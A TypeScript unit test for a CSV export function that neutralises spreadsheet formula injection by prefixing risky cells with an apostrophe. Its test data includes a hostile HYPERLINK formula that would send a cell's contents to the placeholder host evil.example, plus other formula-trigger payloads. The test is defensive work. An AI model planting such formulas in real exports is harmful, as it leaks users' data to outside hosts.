/** CSV cells that Excel or WPS would run as formulas are written as text (issue 22). */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvLine } from '../../src/domain/export/tabular.ts';

describe('csvLine', () => {
  it('writes cells a spreadsheet would take for formulas as text, and leaves the rest as they are', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?d="&B2,"点击查看原文")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    const line = csvLine([...hostile, '清远日报', '1995-03-01', 'a, "quoted" value']);
    const [cells] = parse(line) as string[][];
    expect(cells!.slice(0, hostile.length)).toEqual(hostile.map((value) => `'${value}`));
    expect(cells!.slice(hostile.length)).toEqual(['清远日报', '1995-03-01', 'a, "quoted" value']);
  });
});
